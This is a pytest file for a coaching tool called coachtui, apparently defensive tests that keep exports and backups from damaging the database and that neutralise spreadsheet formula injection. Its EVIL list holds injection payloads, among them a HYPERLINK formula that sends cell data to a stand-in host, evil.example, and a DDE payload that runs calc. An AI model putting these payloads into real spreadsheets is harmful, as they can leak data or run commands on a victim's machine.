"""Issue #20: no writer of a file ever destroys the data file, formulas never reach a spreadsheet, backups of
the same second never collide, and folders coachtui did not create are never chmod-ed."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import stat
import threading
from pathlib import Path

import pytest
from openpyxl import load_workbook

from coachtui.cli import main
from coachtui.exports import files
from coachtui.store import backup, exits, participants, paths
from coachtui.store.db import Database
from conftest import NOW, TODAY, participant_data

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&B2,"klicka")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
]


def run(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(args), out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def fingerprint(db_path: Path) -> dict[str, str]:
    found = {}
    for extra in ("", "-wal", "-shm"):
        side = Path(f"{db_path}{extra}")
        found[extra] = hashlib.sha256(side.read_bytes()).hexdigest() if side.exists() else "-"
    return found


def names(folder: Path) -> list[str]:
    """The files in ``folder`` but SQLite's own -wal/-shm (which come and go with connections)."""
    return sorted(n for n in os.listdir(folder) if not n.endswith(("-wal", "-shm")))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def evil(db: Database) -> Database:
    """Participants whose names are formulas, each with an exit."""
    for n, name in enumerate(EVIL):
        pid = participants.add_participant(db, participant_data(first_name=name, last_name=f"Efter{n}"))
        exits.register_exit(db, pid, {"on": "2026-06-30", "reason": "moved"}, TODAY)
    return db


# --- 1. the data file is never an export's target ---------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        ("export", "all"),
        ("export", "exits"),
        ("export", "exits", "--format", "json"),
        ("export", "exits", "--format", "xlsx"),
        ("export", "calendar"),
        ("export", "finsam", "--from", "2026-01-01", "--to", "2026-11-23", "--format", "csv"),
    ],
)
@pytest.mark.parametrize("target", ["", "-wal", "-shm", "backups"])
def test_no_export_writes_over_the_data_file_or_into_the_backups(
    evil: Database, db_path: Path, command: tuple[str, ...], target: str
) -> None:
    backup.backup_now(evil, "manual", NOW)  # the backups folder exists
    evil.close()
    out = db_path.parent / "backups" / "x.out" if target == "backups" else Path(f"{db_path}{target}")
    before = fingerprint(db_path)
    listing = names(db_path.parent), sorted(os.listdir(db_path.parent / "backups"))
    code, _out, err = run(*command, "--db", str(db_path), "-o", str(out))
    assert code == 2, err
    assert "Inget skrevs" in err
    assert fingerprint(db_path)[""] == before[""]  # the data file is the same bytes
    assert names(db_path.parent) == listing[0]
    assert sorted(os.listdir(db_path.parent / "backups")) == listing[1]
    conn = Database(db_path)
    try:
        assert conn.read().execute("PRAGMA quick_check").fetchone()[0] == "ok"
    finally:
        conn.close()


def test_a_symlink_or_hard_link_to_the_data_file_is_refused(evil: Database, db_path: Path, tmp_path: Path) -> None:
    evil.close()
    (tmp_path / "link.json").symlink_to(db_path)
    os.link(db_path, tmp_path / "hard.json")
    before = fingerprint(db_path)[""]
    for name in ("link.json", "hard.json"):
        code, _out, err = run("export", "all", "--db", str(db_path), "-o", str(tmp_path / name))
        assert code == 2, err
    assert fingerprint(db_path)[""] == before


def test_an_export_to_a_folder_or_a_missing_folder_is_refused(evil: Database, db_path: Path, tmp_path: Path) -> None:
    evil.close()
    for out in (str(tmp_path), str(tmp_path / "gone") + "/", str(tmp_path / "gone" / "x.csv")):
        code, _out, err = run("export", "exits", "--db", str(db_path), "-o", out)
        assert code == 2, err
    assert not (tmp_path / "gone").exists()


def test_an_export_is_written_through_a_temporary_file(evil: Database, db_path: Path, tmp_path: Path) -> None:
    evil.close()
    out = tmp_path / "avslut.csv"
    code, _out, err = run("export", "exits", "--db", str(db_path), "-o", str(out))
    assert code == 0, err
    assert mode(out) == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


# --- 5. backup DEST ------------------------------------------------------------------------------------------------


def test_backup_to_a_missing_folder_writes_nothing(db: Database, db_path: Path, tmp_path: Path) -> None:
    db.close()
    media = tmp_path / "media"
    code, out, err = run("backup", "--db", str(db_path), str(media / "usb") + "/")
    assert code == 2, err
    assert "finns inte" in err and "sparad" not in out
    assert not media.exists()
    code, out, err = run("backup", "--db", str(db_path), str(media / "usb" / "kopia.sqlite3"))
    assert code == 2, err
    assert not media.exists()


def test_backup_dest_never_the_wal_or_the_backups_folder(db: Database, db_path: Path) -> None:
    backup.backup_now(db, "manual", NOW)
    db.close()
    for dest in (db_path.parent / "backups", db_path.parent / "backups" / "x.sqlite3", Path(f"{db_path}-shm")):
        before = sorted(os.listdir(db_path.parent / "backups"))
        code, _out, err = run("backup", "--db", str(db_path), str(dest))
        assert code == 2, (dest, err)
        assert sorted(os.listdir(db_path.parent / "backups")) == before


def test_backup_into_an_existing_folder_works(db: Database, db_path: Path, tmp_path: Path) -> None:
    db.close()
    usb = tmp_path / "usb"
    usb.mkdir()
    code, out, err = run("backup", "--db", str(db_path), str(usb) + "/")
    assert code == 0, err
    made = [p for p in usb.iterdir()]
    assert len(made) == 1 and made[0].name.startswith("coachtui-") and str(made[0]) in out


# --- 6. formula injection ------------------------------------------------------------------------------------------


def test_exits_csv_has_no_formula_cells(evil: Database, db_path: Path, tmp_path: Path) -> None:
    evil.close()
    out = tmp_path / "a.csv"
    code, _out, err = run("export", "exits", "--db", str(db_path), "-o", str(out))
    assert code == 0, err
    text = out.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
    assert not [c for c in cells if c.startswith(files.FORMULA_START)]
    for name in EVIL:
        assert "'" + name in cells


def test_exits_xlsx_has_no_live_formula(evil: Database, db_path: Path, tmp_path: Path) -> None:
    evil.close()
    out = tmp_path / "a.xlsx"
    code, _out, err = run("export", "exits", "--db", str(db_path), "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert not [c for c in cells if c.data_type == "f"]
    first_names = {c.value for c in cells if c.column == 2}
    assert set(EVIL) <= first_names  # as typed, as text


def test_csv_cells_keep_numbers_and_round_trip_through_the_import(db: Database, db_path: Path, tmp_path: Path) -> None:
    assert files.safe_cell("-5") == "-5" and files.safe_cell("-1,5") == "-1,5" and files.safe_cell(-3) == -3
    assert files.safe_cell("Anna") == "Anna" and files.safe_cell("'=x") == "''=x"
    assert files.safe_cell("\tx") == "'\tx" and files.safe_cell("\rx") == "'\rx"
    assert files.unquote_cell("'\tx") == "\tx" and files.unquote_cell("'Anna") == "'Anna"
    names = [*EVIL, "'=already quoted", "O'Brien"]
    lines = ["Nyckel;Förnamn;Efternamn;Födelseår;Kön;Kommun;Program;Inskriven;SUS-samtycke"]
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(lines[0].split(";"))
    for n, name in enumerate(names):
        writer.writerow(files.safe_row([f"k{n}", name, "Efter", 1990, "Kvinna", "Gislaved", "SE", "2025-02-01", "ja"]))
    source = tmp_path / "in.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")
    db.close()
    code, _out, err = run("import", "--db", str(db_path), str(source))
    assert code == 0, err
    found = {r[0]: r[1] for r in Database(db_path).read().execute("SELECT key, first_name FROM participant")}
    assert found == {f"k{n}": name for n, name in enumerate(names)}


def test_report_csv_cells_are_never_formulas() -> None:
    from coachtui.domain import report as rules
    from coachtui.exports.report import to_csv

    period = rules.resolve_period(None, None, TODAY)
    result = rules.build([], period, today=TODAY, team=[], municipality="=evil()", program=None)
    text = to_csv(result)
    assert ";'=evil()" in text and ";=evil()" not in text


# --- 4. backups of the same second ---------------------------------------------------------------------------------


def test_backups_in_the_same_second_never_collide(db: Database, db_path: Path) -> None:
    made: list[Path] = []
    errors: list[BaseException] = []
    start = threading.Barrier(6)

    def one(kind: str) -> None:
        worker = Database(db_path)
        try:
            start.wait()
            made.append(backup.backup_now(worker, kind, NOW))
        except BaseException as exc:
            errors.append(exc)
        finally:
            worker.close()

    threads = [threading.Thread(target=one, args=(k,)) for k in ["manual"] * 3 + ["daily"] * 3]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert len(set(made)) == 6 and all(p.is_file() for p in made)  # every reported backup exists
    folder = paths.backup_dir(db_path)
    assert not [p for p in folder.iterdir() if "partial" in p.name]
    assert len(backup.list_backups(db_path)) == 6


def test_snapshot_never_replaces_an_existing_file(db: Database, tmp_path: Path) -> None:
    taken = tmp_path / "manual-20261123-090000.sqlite3"
    taken.write_bytes(b"someone else's")
    made = backup.snapshot(db.read(), taken)
    assert made != taken and made.name == "manual-20261123-090000-2.sqlite3"
    assert taken.read_bytes() == b"someone else's"


def test_concurrent_cli_backups_and_imports_all_succeed(db: Database, db_path: Path, tmp_path: Path) -> None:
    """Three imports (each makes a pre-import backup) and three backups at once: none fails, none collides."""
    import subprocess
    import sys

    from coachtui.store import document

    participants.add_participant(db, participant_data())
    source = tmp_path / "in.json"
    source.write_text(document.dumps(document.build(db)), encoding="utf-8")
    db.close()
    env = {**os.environ, "COACHTUI_TODAY": TODAY.isoformat()}
    commands = [["backup"]] * 3 + [["import", str(source)]] * 3
    procs = [
        subprocess.Popen(
            [sys.executable, "-m", "coachtui", *command, "--db", str(db_path)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        for command in commands
    ]
    results = [p.communicate(timeout=120) for p in procs]
    assert [p.returncode for p in procs] == [0] * 6, results
    reported = {line.split(": ", 1)[1] for out, _err in results[:3] for line in out.splitlines() if ": " in line}
    assert len(reported) == 3 and all(Path(p).is_file() for p in reported)
    assert not [p for p in paths.backup_dir(db_path).iterdir() if "partial" in p.name]


# --- 13. folders coachtui did not create ---------------------------------------------------------------------------


def test_a_shared_folder_is_never_chmod_ed(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    db = Database(shared / "coachtui.sqlite3")
    db.open(now=NOW)
    try:
        participants.save_coach(db, {"name": "Kim Coach", "municipality": "Gislaved", "fte": 0.4})
        usb = tmp_path / "usb"
        usb.mkdir()
        usb.chmod(0o1777)
        backup.snapshot(db.read(), usb / "kopia.sqlite3", create_folder=False)
        assert stat.S_IMODE(shared.stat().st_mode) == 0o1777
        assert stat.S_IMODE(usb.stat().st_mode) == 0o1777
        assert mode(shared / "coachtui.sqlite3") == 0o600
        backup.backup_now(db, "manual", NOW)
        assert mode(shared / "backups") == 0o700  # created by coachtui: private
    finally:
        db.close()


def test_private_dir_makes_only_new_folders_private(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    paths.private_dir(tmp_path / "a" / "b")
    assert mode(tmp_path) == 0o755
    assert mode(tmp_path / "a") == 0o700 and mode(tmp_path / "a" / "b") == 0o700
